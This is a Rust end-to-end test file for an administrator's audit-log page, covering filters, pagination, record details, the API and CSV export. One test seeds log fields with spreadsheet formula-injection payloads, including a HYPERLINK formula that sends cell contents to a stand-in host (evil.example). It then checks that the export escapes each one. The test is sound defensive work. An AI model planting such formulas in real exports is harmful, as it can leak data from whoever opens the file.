//! The trail, as an administrator reads it.
use super::Stage;

/// The file that the browser saves: the columns that scripts know, a line for each record, and nothing that a spreadsheet
/// would run.
pub async fn the_file(stage: &Stage) {
    let p = &stage.person;
    stage.sign_in_newcomer("tilda", "admin").await;
    for _ in 0..3 {
        let wrong = stage.server.http().await.sign_in_as("tilda", "wrong").await;
        assert_eq!(wrong.status, 401);
    }
    let failures = "SELECT count(*) FROM audit_logs WHERE event_type = 'AUTHENTICATION_FAILURE' AND actor_username = 'tilda'";
    stage.settles(failures, 3).await;
    let formula = r#"=HYPERLINK("https://evil.example?"&A1,"Look")"#;
    let hostile = format!(
        "UPDATE audit_logs SET user_agent = '{formula}', error_message = '	+1', resource_name = '@SUM(1)' WHERE actor_username = 'tilda'"
    );
    stage.server.sql(&hostile, &hostile).await;
    p.visit("/admin/audit?event_type=AUTHENTICATION_FAILURE&search=tilda")
        .await;
    p.press("Export as CSV").await;
    let file = saved(stage).await;
    let mut lines = file.trim_start_matches('\u{feff}').split("\r\n");
    let head = lines.next().unwrap();
    assert!(
        head.starts_with("Event Time,Event Type,Severity,Actor Username,Actor IP,"),
        "{head}"
    );
    let records: Vec<&str> = lines.filter(|line| !line.is_empty()).collect();
    assert_eq!(records.len(), 3, "{file}");
    for record in records {
        assert!(record.contains("AUTHENTICATION_FAILURE"), "{record}");
        for cell in [
            r#","'=HYPERLINK(""https://evil.example?""&A1,""Look"")","#,
            ",\"'\t+1\",",
            ",\"'@SUM(1)\",",
        ] {
            assert!(record.contains(cell), "{cell} is not in {record}");
        }
    }
}

/// The text of the one file that was saved, once it is whole.
async fn saved(stage: &Stage) -> String {
    for _ in 0..100 {
        let files = std::fs::read_dir(stage.downloads.path()).unwrap();
        let whole = files
            .filter_map(|file| Some(file.ok()?.path()))
            .find(|path| path.extension().is_some_and(|end| end == "csv"));
        if let Some(path) = whole {
            return std::fs::read_to_string(path).unwrap();
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    panic!("nothing was saved");
}

/// Filters survive the way back and forth; records tell their details; the file has what the page has.
pub async fn the_trail(stage: &Stage) {
    let p = &stage.person;
    stage.sign_in_newcomer("trude", "admin").await;
    for _ in 0..23 {
        let wrong = stage.server.http().await.sign_in_as("trude", "wrong").await;
        assert_eq!(wrong.status, 401);
    }
    // Records come a moment later, and the list does not grow while it is looked at.
    let all = "SELECT count(*) / 23 FROM audit_logs \
               WHERE event_type = 'AUTHENTICATION_FAILURE' AND actor_username = 'trude'";
    stage.settles(all, 1).await;
    p.press("Audit").await;
    p.says("Signed in").await;
    p.choose("Event", "Sign-in failed").await;
    p.fill("Part of an action, a name or an actor", "trude")
        .await;
    p.press_here("Search").await;
    p.has_rows(20).await;
    p.press("Older").await;
    p.says("Newer").await;
    assert!(p.rows().await >= 3);
    assert_eq!(
        p.value("Part of an action, a name or an actor").await,
        "trude"
    );
    assert!(p.address().await.contains("AUTHENTICATION_FAILURE"));
    p.press("Newer").await;
    p.says("Older").await;
    p.has_rows(20).await;
    // One record in full.
    p.press_at("Sign-in failed", "Details").await;
    p.says("POST /login").await;
    // From its address to all of the same address.
    p.press_at("Sign-in failed", "127.0.0.1").await;
    assert!(p.address().await.contains("actor_ip=127.0.0.1"));
    // A period without anything.
    p.visit("/admin/audit?start_time=2001-01-01T00:00:00Z&end_time=2001-01-02T00:00:00Z")
        .await;
    p.says("Nothing matches these filters.").await;
    p.press_here("Clear").await;
    p.says("Signed in").await;
    // The file and the document for programs are links that keep the filters.
    p.visit("/admin/audit?event_type=AUTHENTICATION_FAILURE&search=trude")
        .await;
    let href = p.href("Export as CSV").await;
    assert!(href.contains("event_type=AUTHENTICATION_FAILURE"), "{href}");
    let mut http = stage.elsewhere("trude").await;
    let list = http
        .get(
            "/admin/audit/api?event_type=AUTHENTICATION_FAILURE&search=trude",
            &[],
        )
        .await;
    assert!(list.json()["pagination"]["Total"].as_i64().unwrap() >= 23);
    // That it was read is on record too.
    p.press("Audit").await;
    p.says("Audit trail read").await;
}

/// The fields under “More filters”: an address, a person and a period; what was asked for stays in them.
pub async fn narrowed(stage: &Stage) {
    let p = &stage.person;
    stage.sign_in_newcomer("tove", "admin").await;
    for _ in 0..2 {
        let wrong = stage.server.http().await.sign_in_as("tove", "wrong").await;
        assert_eq!(wrong.status, 401);
    }
    let failures = "SELECT count(*) FROM audit_logs WHERE event_type = 'AUTHENTICATION_FAILURE' AND actor_username = 'tove'";
    stage.settles(failures, 2).await;
    p.press("Audit").await;
    p.press("More filters").await;
    p.choose("Severity", "Warning").await;
    p.choose("Outcome", "Failed").await;
    p.fill("Address", "127.0.0.1").await;
    p.fill("Actor ID", "id-of-tove").await;
    p.press_here("Search").await;
    p.has_rows(2).await;
    p.says("Sign-in failed").await;
    assert_eq!(p.value("Actor ID").await, "id-of-tove");
    p.fill("Address", "192.0.2.9").await;
    p.press_here("Search").await;
    p.says("Nothing matches these filters.").await;
    assert_eq!(p.value("Address").await, "192.0.2.9");
    p.press_here("Clear").await;
    p.press("More filters").await;
    p.fill_time("From (UTC)", "01012001", "120000AM").await;
    p.fill_time("Until (UTC)", "01022001", "120001AM").await;
    p.press_here("Search").await;
    p.says("Nothing matches these filters.").await;
    assert_eq!(p.value("Until (UTC)").await, "2001-01-02T00:00:01");
    p.fill_time("Until (UTC)", "01022901", "120001AM").await;
    p.fill("Actor ID", "id-of-tove").await;
    p.choose("Outcome", "Failed").await;
    p.press_here("Search").await;
    p.has_rows(2).await;
    assert!(p.value("From (UTC)").await.starts_with("2001-01-01T00:00"));
}
